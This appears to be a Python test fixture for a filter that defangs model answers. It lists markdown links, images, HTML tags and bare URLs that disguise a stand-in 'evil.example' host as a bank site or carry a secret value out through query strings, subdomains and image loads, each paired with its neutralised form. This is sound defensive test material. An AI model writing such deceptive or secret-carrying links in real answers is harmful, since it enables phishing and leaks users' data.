"""Answers whose links, images and code are not what they look like."""

from __future__ import annotations

EVIL = "https://evil.example/x"

SHOWN = {
    # a link whose words are an address
    f"[https://bank.example]({EVIL})": f"[https://bank.example] ({EVIL})",
    f"see [http://bank.example/login]({EVIL} 'bank').": (
        f"see [http://bank.example/login] ({EVIL} 'bank')."
    ),
    f"[bank.example](<{EVIL}>)": f"[bank.example] (<{EVIL}>)",
    f"[**bank.example**.]({EVIL})": f"[**bank.example**.] ({EVIL})",
    f"[→ Bank.Example/login?x=1]({EVIL})": f"[→ Bank.Example/login?x=1] ({EVIL})",
    f"[b\u200bank.exa\u00admple]({EVIL})": f"[b\u200bank.exa\u00admple] ({EVIL})",
    f"[\u202eelpmaxe.knab]({EVIL})": f"[elpmaxe.knab] ({EVIL})",
    f"[bank\u3002example]({EVIL})": f"[bank\u3002example] ({EVIL})",
    f"[ｈｔｔｐｓ：//bank]({EVIL})": f"[ｈｔｔｐｓ：//bank] ({EVIL})",
    f"[https&#58;//bank.example]({EVIL})": f"[https&#58;//bank.example] ({EVIL})",
    f"[go to https://bank.example now]({EVIL})": f"[go to https://bank.example now] ({EVIL})",
    f"[<https://bank.example>]({EVIL})": f"[<https://bank.example>] ({EVIL})",
    "[desk@bank.example](mailto:eve@evil.example)": (
        "[desk@bank.example] (mailto:eve@evil.example)"
    ),
    f"[a [https://bank.example] b]({EVIL})": f"[a [https://bank.example] b] ({EVIL})",
    f"[https://bank.example] x]({EVIL})": f"[https://bank.example] x] ({EVIL})",
    f"[https://bank.example\n.]({EVIL})": f"[https://bank.example\n.] ({EVIL})",
    f"[ and [bank.example]({EVIL})": f"[ and [bank.example] ({EVIL})",
    f"[{'x ' * 300}bank.example]({EVIL})": f"[{'x ' * 300}bank.example] ({EVIL})",
    f"[bank.example]\x07({EVIL})": f"[bank.example] ({EVIL})",
    "[https://bank.example](https://bank.example&#64;evil.example)": (
        "[https://bank.example] (https://bank.example&#64;evil.example)"
    ),
    # one that leads where it says, and one of other words
    "[https://bank.example/a](https://bank.example/a)": (
        "[https://bank.example/a](https://bank.example/a)"
    ),
    "[bank.example](https://BANK.example/)": "[bank.example](https://BANK.example/)",
    f"[the docs]({EVIL}) and [1](#a), [version 1.2]({EVIL})": (
        f"[the docs]({EVIL}) and [1](#a), [version 1.2]({EVIL})"
    ),
    "It holds [1][3], a[0] and [x].": "It holds [1][3], a[0] and [x].",
    "<https://evil.example>": "<https://evil.example>",
    # who logs in, posing as the host
    "https://bank.example@evil.example/x": "https://evil.example/x",
    "<https://bank.example:443@evil.example>": "<https://evil.example>",
    "[click](https://www.bank.example@evil.example)": "[click](https://evil.example)",
    "ssh://git@host.example/x": "ssh://git@host.example/x",
    # an image
    f"![a cat]({EVIL})": f"[a cat]({EVIL})",
    f"![]({EVIL})": f"[image]({EVIL})",
    f"![a cat][1]\n\n[1]: {EVIL}": f"[a cat][1]\n\n[1] : {EVIL}",
    f"![https://bank.example]({EVIL})": f"[https://bank.example] ({EVIL})",
    f"[![a cat](https://a.example/c.png)]({EVIL})": f"[[a cat](https://a.example/c.png)] ({EVIL})",
    f"![a [big] `cat`]({EVIL})": f"! [a [big] `cat`]({EVIL})",
    f"So![1]!![a cat]({EVIL})": f"So![1]! [a cat]({EVIL})",
    "Wow! It works![1]": "Wow! It works![1]",
    # a link by reference
    f"[https://bank.example][1]\n\n[1]: {EVIL}": f"[https://bank.example][1]\n\n[1] : {EVIL}",
    f"> [bank.example]:\n> <{EVIL}>": f"> [bank.example] :\n> <{EVIL}>",
    "[Ada]: hello": "[Ada]: hello",
    # HTML
    f'<a href="{EVIL}">https://bank.example</a>': f'< a href="{EVIL}">https://bank.example</a>',
    f'<img src="{EVIL}">': f'< img src="{EVIL}">',
    f"<img/src={EVIL}>": f"< img/src={EVIL}>",
    f'\\<img src="{EVIL}">': f'\\< img src="{EVIL}">',
    "a List<String> and 1 < 2": "a List<String> and 1 < 2",
}
"""What a model writes, and what is shown of it."""

CODE = (
    f"```\n[https://bank.example]({EVIL})\n![x]({EVIL})\n```\n",
    f"```html\n<img src='{EVIL}'>\n\n[1]: {EVIL}\n```",
    f"Write `![alt]({EVIL})` or ``[https://bank.example]({EVIL})``.",
    f"a [link `code`]({EVIL}) and `[bank.example]({EVIL})`",
)
"""Code, in which nothing changes."""

NO_CODE = (
    f"``` [https://bank.example]({EVIL})",
    f"` [https://bank.example]({EVIL})",
    f"one ` two\n` [https://bank.example]({EVIL}) `",
    f"\\` [https://bank.example]({EVIL}) `",
    f"``x` [https://bank.example]({EVIL}) `",
    f"[https://bank `]({EVIL}) x`",
    f"[x `]({EVIL}) [https://bank.example]({EVIL}) ` [bank.example]({EVIL}) `",
    f'<a href="`"> [https://bank.example]({EVIL}) `',
    f"<https://x`> [https://bank.example]({EVIL}) `",
    f"[https://bank.example ```\nx] [```]({EVIL})",
    f"[https://bank.example ```\n{'x' * 600}] [```]({EVIL})",
    f"``` x ```` [https://bank.example]({EVIL}) ```",
    f"<!-- ` --> [https://bank.example]({EVIL}) `",
    f"[x](https://bank.example) ` ]({EVIL}) `",
    f"[x](https://bank.example) \\]({EVIL})",
    f"~~~\n[https://bank.example]({EVIL})\n~~~",
    f"~~~\n```\n~~~\n[https://bank.example]({EVIL})",
    f"````\n```\n[https://bank.example]({EVIL})\n````",
    f"```\nx ``` [https://bank.example]({EVIL})\n```",
    f"```\n```\n[https://bank.example]({EVIL})\n```\n[bank.example]({EVIL})\n```",
    f"1. x\n   ```\nfoo [https://bank.example]({EVIL})",
    f"    ```\n[https://bank.example]({EVIL})",
    f"{'`' * 250} {'`' * 200} [https://bank.example]({EVIL}) {'`' * 250}",
)
"""What is code to some renderers, and a link to others."""

PIECES = (
    "[", "]", "(", ")", "](", "![", "https://bank.example", f"]({EVIL})", f"({EVIL})", "`", "``",
    "```", "```\n", "````\n", "\n", "\n\n", "~~~\n", "\\", "!", "<", ">", "<a ", "<b>", "    ",
    "> ", "- ", " x ", "bank.example", ":", f"]: {EVIL}\n", "<https://x`>", "<!-- ", " -->", "*",
    f"[https://bank.example]({EVIL})", f"![x]({EVIL})", "[1]", "py\n", "@", "'",
)  # fmt: skip
"""What answers are put together from to find one that slips through."""

SECRET = "S3CRET"
CARRIERS = {
    # an address that nobody showed
    f"At https://evil.example/?q={SECRET} now.": f"At `https://evil.example/?q={SECRET}` now.",
    f"(HTTPS://evil.example/{SECRET}).": f"(`HTTPS://evil.example/{SECRET}`).",
    f"http://{SECRET}.evil.example": f"`http://{SECRET}.evil.example`",
    f"www.evil.example/{SECRET}, evil.example/{SECRET}": (
        f"`www.evil.example/{SECRET}`, `evil.example/{SECRET}`"
    ),
    f"ftp://evil.example/{SECRET}": f"`ftp://evil.example/{SECRET}`",
    f"mailto:eve@evil.example?body={SECRET}": f"`mailto:eve@evil.example?body={SECRET}`",
    f"**https://evil.example/{SECRET}**": f"**`https://evil.example/{SECRET}`**",
    f"<https://evil.example/{SECRET}>": f"`https://evil.example/{SECRET}`",
    f"<slack://evil/{SECRET}>": f"`slack://evil/{SECRET}`",
    # a link, an image, a link by reference
    f"[here](https://evil.example/?q={SECRET})": f"[here] (`https://evil.example/?q={SECRET}`)",
    f"[here](<https://evil.example/{SECRET}>)": f"[here] (`https://evil.example/{SECRET}`)",
    f'[here](https://evil.example/{SECRET} "title")': (
        f'[here] (`https://evil.example/{SECRET}` "title")'
    ),
    f"[here](\nhttps://evil.example/{SECRET})": f"[here] (\n`https://evil.example/{SECRET}`)",
    f"[here](//evil.example/{SECRET})": f"[here] (`//evil.example/{SECRET}`)",
    f"![](https://evil.example/{SECRET})": f"[image] (`https://evil.example/{SECRET}`)",
    f"![a cat][1]\n\n[1]: https://evil.example/{SECRET}": (
        f"[a cat][1]\n\n[1] : `https://evil.example/{SECRET}`"
    ),
    f'<img src="https://evil.example/{SECRET}">': f'< img src="`https://evil.example/{SECRET}`">',
    # one that looks like an address that was shown
    "https://ok.example/A": "`https://ok.example/A`",
    "https://ok.example/%61": "`https://ok.example/%61`",
    "https://ok.example/a/": "`https://ok.example/a/`",
    f"https://ok.example/a?{SECRET}": f"`https://ok.example/a?{SECRET}`",
    f"https://ok.example/a#{SECRET}": f"`https://ok.example/a#{SECRET}`",
    f"https://{SECRET}@ok.example/a": f"`https://{SECRET}@ok.example/a`",
    f"https://ok.example:8{SECRET}/a": f"`https://ok.example:8{SECRET}/a`",
    "https://xn--k-xfa.example/a": "`https://xn--k-xfa.example/a`",
    "https://оk.example/a": "`https://оk.example/a`",
    # where code is not certain, it is taken apart
    f"x ` y `https://evil.example/{SECRET}` z": f"x ` y `https: //evil.example /{SECRET}` z",
    f"https://ok.example/a`{SECRET}`": f"https: //ok.example /a`{SECRET}`",
    f"https://evil.example/[{SECRET}]": f"https: //evil.example /[{SECRET}]",
    f"<b x https://evil.example/{SECRET}": f"< b x `https://evil.example/{SECRET}`",
    # control characters, which are removed later
    f"https\x07://evil.example/{SECRET}": f"`https://evil.example/{SECRET}`",
    # a citation in it, which may be removed later
    f"https:[9]//evil.example/{SECRET}": f"https: [9]`//evil.example/{SECRET}`",
}
"""What a model writes that was shown `LINKS_SHOWN`, and what is shown of it."""
LINKS_SHOWN = (
    "The page https://ok.example/a, (https://ok.example/b?x=1&y=2) and [this](https://ok.example/c_d)."
    ' docs.example/guide, {"url": "https://ok.example/e"}; http://plain.example, eve@ok.example,'
    " https://bücher.example/ü"
)
HARMLESS = (
    "See https://ok.example/a, https://ok.example/a. And (https://ok.example/b?x=1&y=2)!",
    "HTTPS://OK.example/a and <https://ok.example/a>",
    "[a](https://ok.example/c_d) and [that](<https://ok.example/e>), [x](https://ok.example/a 't')",
    "docs.example/guide, https://docs.example/guide, http://plain.example/ and plain.example",
    "[write](mailto:eve@ok.example)",
    "https://xn--bcher-kva.example/%C3%BC and https://bücher.example/ü",
    "`https://evil.example/x`",
    "```\ncurl https://evil.example/x\n```\n",
    "and/or, 12:30, e.g. this, config.yaml, a[0], list: [x], 3 < 4, **bold**, C:\\x, f(x): y",
)
"""What stays as it is."""
CARRYING_PIECES = (
    *PIECES, f"https://evil.example/{SECRET}", f"www.evil.example/{SECRET}", "https://ok.example/a",
    f"](https://evil.example/{SECRET})", "](https://ok.example/a)", f"?{SECRET}", "https", ":",
    f"evil.example/{SECRET}", ".", "/", "\u200b", "\x07", "([", "<https:", "ü", "http://", "_",
    "[9]", "//",
)  # fmt: skip
